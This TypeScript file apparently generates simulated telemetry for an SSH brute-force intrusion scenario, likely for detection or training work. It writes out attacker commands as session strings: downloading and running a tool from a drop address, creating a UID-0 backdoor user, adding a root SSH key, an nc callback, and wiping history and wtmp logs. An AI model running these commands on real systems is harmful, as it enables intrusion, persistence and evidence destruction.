import { connect } from "../events/network-event.ts";
import { touch } from "../events/file-event.ts";
import { LOG_SIGNATURES, logLine } from "../events/host-event.ts";
import { run } from "../events/process-event.ts";
import type { Host } from "../hosts.ts";
import { GUESSED_USERS } from "../names.ts";
import { strangeAccount, strangePort, strangeProgram } from "../props.ts";
import { failedLogin, strangerAddress } from "../routine/internet-noise.ts";
import { atHost, cause, wait } from "../scene.ts";
import type { Scene, Script, Stage } from "../scene.ts";
import { drawPids, openSession, sessionOf, sudo, type } from "../ssh-session.ts";
import type { Session, SessionPids } from "../ssh-session.ts";
import { MINUTE_MS } from "../../seeded/time.ts";
import { asRoot, loginAccount } from "../unix-account.ts";
import type { UnixAccount } from "../unix-account.ts";
import { cleanHost } from "./response.ts";
import { castHost, factsOf, momentOf, tell } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

interface Cast {
  readonly host: Host;
  readonly srcIp: string;
  readonly dropIp: string;
  /** The account whose password was guessed. */
  readonly user: string;
  readonly guesses: readonly string[];
  readonly backdoor: string;
  readonly tool: string;
  readonly port: string;
  readonly as: UnixAccount;
  readonly pids: SessionPids;
  readonly successAt: number;
}

/** Password guessing over SSH that ends in a success, a downloaded tool and a user of the attacker's own. */
export function sshBruteForce(options: StoryOptions): Story {
  const { world, random, start } = options;
  const user = random.pick(["deploy", "backup", "support"]);
  const login = { session: random.int(9100, 9900), tty: `pts${random.int(3, 9)}` };
  const successAt = start + random.int(24, 40) * MINUTE_MS;
  const cast: Cast = {
    user,
    as: loginAccount(user, 1998, login),
    pids: drawPids(random),
    successAt,
    host: castHost(options, [...world.hostsOf("web"), ...world.hostsOf("bastion")]),
    srcIp: strangerAddress(random),
    dropIp: strangerAddress(random),
    guesses: random.sample(GUESSED_USERS, random.int(3, 7)),
    backdoor: strangeAccount(random),
    tool: `${random.pick(["/tmp", "/var/tmp", "/dev/shm"])}/${strangeProgram(random)}`,
    port: String(strangePort(random)),
  };
  const settleAt = successAt + random.int(8, 14) * MINUTE_MS;
  const { host, srcIp, tool, backdoor } = cast;
  return tell(options, {
    id: "ssh-brute-force",
    kind: "attack",
    platforms: ["linux"],
    rootCause: `${srcIp} logged in as ${user} on ${host.name} with a guessed password`,
    chapters: [
      {
        name: "guessing",
        start,
        deed: `${srcIp} guessed passwords on ${host.name}`,
        facts: factsOf(["address", srcIp], ["host", host.name], ["user", user]),
        perform: (stage) => guess(stage, cast),
      },
      {
        name: "inside",
        start: successAt,
        deed: `logged in as ${user} and started ${tool}`,
        facts: factsOf(["tool", tool], ["address", cast.dropIp], ["time", momentOf(successAt)]),
        perform: (stage) => comeIn(stage, cast),
      },
      {
        name: "settling",
        start: settleAt,
        deed: `made itself root as ${backdoor}`,
        facts: factsOf(["user", backdoor], ["object", "/root/.ssh/authorized_keys"]),
        perform: (stage) => settle(stage, cast),
      },
    ],
    response: cleanHost({
      host,
      lines: [`iptables -I INPUT -s ${srcIp} -j DROP`, `passwd -l ${user}`, `rm -f ${tool}`],
    }),
  });
}

function* guess(stage: Stage, { host, srcIp, user, guesses, successAt }: Cast): Script {
  const scene = atHost(stage, host);
  const { random, clock } = stage;
  let isFirst = true;
  while (clock.now < successAt - 10_000) {
    const isKnown = random.chance(0.45);
    const name = isKnown ? user : random.pick(guesses);
    const event = failedLogin(scene, { user: name, srcIp, isKnown });
    yield isFirst ? cause(stage, event) : event;
    isFirst = false;
    wait(stage, 2000, 9000);
  }
}

function* comeIn(stage: Stage, cast: Cast): Script {
  const { host, srcIp, dropIp, tool, as, pids } = cast;
  const scene = atHost(stage, host);
  const session = yield* openSession(scene, as, { srcIp, pids, isCause: true });
  const looks = ["id", "uname -a", "cat /etc/passwd", "w", "last -n 20", "crontab -l", "ip addr"];
  for (const line of stage.random.sample([...looks, "ls -la /home", "nproc", "free -m"], 7)) {
    wait(stage, 2000, 25_000);
    yield* type(scene, session, line);
  }
  wait(stage, 4000, 20_000);
  const line = `wget -q http://${dropIp}/${tool.slice(tool.lastIndexOf("/") + 1)} -O ${tool}`;
  const wget = yield* type(scene, session, line);
  const socket = { as, process: wget, argv: line.split(" "), parent: session.shell };
  yield connect(scene, { ...socket, remote: { ip: dropIp, port: 80 } });
  yield* type(scene, session, `chmod +x ${tool}`);
  wait(stage, 1000, 5000);
  yield* type(scene, session, `${tool} --daemon`);
}

// Root, a user of the attacker's own, a key to come back with, and traces removed.
function* settle(stage: Stage, cast: Cast): Script {
  const { host, backdoor, dropIp, tool, port, as, pids, successAt } = cast;
  const scene = atHost(stage, host);
  const session = sessionOf(as, { pids, openedAt: successAt });
  stage.clock.lastPid = pids.shell + 200;
  const useradd = yield* sudo(scene, session, `useradd -o -u 0 -m ${backdoor}`);
  yield logLine(scene, {
    signature: LOG_SIGNATURES.newUser,
    program: "useradd",
    message: `new user: name=${backdoor}, UID=0, GID=0, home=/home/${backdoor}, shell=/bin/bash`,
    user: backdoor,
    pid: useradd.pid,
  });
  wait(scene, 3000, 20_000);
  const root = asRoot(as);
  const argv = ["tee", "-a", "/root/.ssh/authorized_keys"];
  const tee = yield* sudo(scene, session, argv.join(" "));
  yield touch(scene, {
    as: root,
    process: tee,
    argv,
    filename: "/root/.ssh/authorized_keys",
    action: "modify",
  });
  wait(scene, 3000, 20_000);
  yield* callBack(scene, { as: root, session, argv: ["nc", dropIp, port] });
  for (const line of [
    "ps aux",
    `pgrep -f ${tool}`,
    "ss -tn",
    "history -c",
    "rm -f /var/log/wtmp",
  ]) {
    wait(scene, 2000, 20_000);
    yield* type(scene, session, line);
  }
}

function* callBack(
  scene: Scene,
  { as, session, argv }: { as: Session["as"]; session: Session; argv: readonly string[] },
): Script {
  const [, ip = "", port] = argv;
  const spec = { as, argv, parent: session.shell };
  const nc = yield* run(scene, { ...spec, exe: "/usr/bin/nc" });
  yield connect(scene, { ...spec, process: nc, remote: { ip, port: Number(port) } });
}
